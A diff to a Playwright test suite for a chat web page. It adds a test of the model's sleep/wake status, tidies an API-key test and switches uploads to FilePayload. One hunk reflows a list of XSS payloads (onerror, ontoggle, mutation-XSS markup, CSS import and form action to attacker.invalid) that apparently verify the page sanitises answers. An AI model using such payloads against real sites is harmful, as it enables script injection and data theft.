@@ -9,7 +9,7 @@ import sys
 from collections.abc import AsyncIterator
 
 import pytest
-from playwright.async_api import Page, expect
+from playwright.async_api import FilePayload, Page, expect
 
 from orchestrator.api.chat_page import CONTENT_SECURITY_POLICY
 from tests.support.live import Live, live
@@ -116,6 +116,18 @@ async def test_new_chat_forgets_the_conversation(page: Page, engine: ScriptedEng
     assert [message["content"] for message in engine.requests[1].json["messages"]] == ["second"]
 
 
+async def test_state_of_the_model_is_shown_while_it_sleeps_and_wakes(engine: ScriptedEngine) -> None:
+    engine.play(stream(*text("awake")))
+    await engine.stop()
+    async with live(engine.url, ENGINE_STARTUP_SECONDS="60") as server:
+        async with opened(server.url) as page:
+            await expect(page.locator("#model-state")).to_contain_text("asleep, wakes up in about")
+            await ask(page, "Hi")
+            await expect(page.locator(".waiting")).to_contain_text("The answer comes once it is up.")
+            await engine.start(engine.port)
+            await expect(page.locator(".answer .text")).to_have_text("awake")
+
+
 async def test_error_of_the_engine_is_shown(server: Live, engine: ScriptedEngine) -> None:
     engine.play(body({"error": {"message": "This model's maximum context length is 8 tokens"}}, 400))
     async with opened(server.url, watched=Watched(expected=("status of 400",))) as page:
@@ -123,27 +135,29 @@ async def test_error_of_the_engine_is_shown(server: Live, engine: ScriptedEngine
         await expect(page.locator(".answer [role=alert]")).to_contain_text("maximum context length is 8")
 
 
-async def test_wrong_key_is_refused_and_the_right_one_is_gone_with_the_tab(engine: ScriptedEngine) -> None:
+async def test_wrong_key_is_rejected_and_the_right_one_is_gone_with_the_tab(engine: ScriptedEngine) -> None:
     engine.play(stream(*text("welcome")))
-    async with live(engine.url, BOOTSTRAP_API_KEY=KEY) as server:
-        async with opened(server.url, watched=Watched(expected=(REFUSED,))) as page:
-            dialog = page.get_by_role("dialog", name="API key")
-            await expect(dialog).to_be_visible()
-            await dialog.get_by_label("Key", exact=True).fill("wrong")
-            await dialog.get_by_role("button", name="Use this key").click()
-            await expect(dialog.get_by_role("alert")).to_contain_text("key")
-            await dialog.get_by_label("Key", exact=True).fill(KEY)
-            await page.keyboard.press("Enter")
-            await expect(dialog).to_be_hidden()
-            await ask(page, "Hi")
-            await expect(page.locator(".answer .text")).to_have_text("welcome")
-            await page.get_by_role("button", name="Details").click()
-            assert KEY not in await page.content()
-            kept = await page.evaluate("JSON.stringify([{...localStorage}, document.cookie])")
-            assert json.loads(kept) == [{}, ""]
-            other = await page.context.new_page()
-            await other.goto(server.url)
-            await expect(other.get_by_role("dialog", name="API key")).to_be_visible()
+    async with (
+        live(engine.url, BOOTSTRAP_API_KEY=KEY) as server,
+        opened(server.url, watched=Watched(expected=(REFUSED,))) as page,
+    ):
+        dialog = page.get_by_role("dialog", name="API key")
+        await expect(dialog).to_be_visible()
+        await dialog.get_by_label("Key", exact=True).fill("wrong")
+        await dialog.get_by_role("button", name="Use this key").click()
+        await expect(dialog.get_by_role("alert")).to_contain_text("key")
+        await dialog.get_by_label("Key", exact=True).fill(KEY)
+        await page.keyboard.press("Enter")
+        await expect(dialog).to_be_hidden()
+        await ask(page, "Hi")
+        await expect(page.locator(".answer .text")).to_have_text("welcome")
+        await page.get_by_role("button", name="Details").click()
+        assert KEY not in await page.content()
+        kept = await page.evaluate("JSON.stringify([{...localStorage}, document.cookie])")
+        assert json.loads(kept) == [{}, ""]
+        other = await page.context.new_page()
+        await other.goto(server.url)
+        await expect(other.get_by_role("dialog", name="API key")).to_be_visible()
 
 
 async def test_request_is_shown_as_code_that_runs(page: Page, server: Live, engine: ScriptedEngine) -> None:
@@ -188,7 +202,8 @@ ATTACKS = (
     "<style>@import 'https://attacker.invalid/x.css';</style>",
     "<form action='https://attacker.invalid/'><button>Send</button></form>",
     "<a href='vbscript:x' onclick='window.acted=1'>x</a>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.acted=1&gt;'>",
+    "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=x onerror=window.acted=1&gt;'>",
     "```html\n<script>window.acted = 1</script>\n```",
     "`<img src=x onerror=window.acted=1>`",
     "<details open ontoggle=window.acted=1>",
@@ -230,7 +245,7 @@ async def test_image_is_attached_and_sent(page: Page, engine: ScriptedEngine) ->
     )
     engine.play(stream(*text("a pixel")))
     await page.locator("#image").set_input_files(
-        [{"name": "pixel.png", "mimeType": "image/png", "buffer": pixel}]
+        FilePayload(name="pixel.png", mimeType="image/png", buffer=pixel)
     )
     await expect(page.locator("#images img")).to_be_visible()
     await ask(page, "What is this?")
@@ -239,7 +254,7 @@ async def test_image_is_attached_and_sent(page: Page, engine: ScriptedEngine) ->
     assert message["content"][0] == {"type": "text", "text": "What is this?"}
     assert message["content"][1]["image_url"]["url"].startswith("data:image/png;base64,iVBOR")
     await page.locator("#image").set_input_files(
-        [{"name": "large.png", "mimeType": "image/png", "buffer": bytes(4_000_001)}]
+        FilePayload(name="large.png", mimeType="image/png", buffer=bytes(4_000_001))
     )
     await expect(page.locator("#notice")).to_have_text("large.png has 4.0 MB; an image may have up to 4 MB.")
 
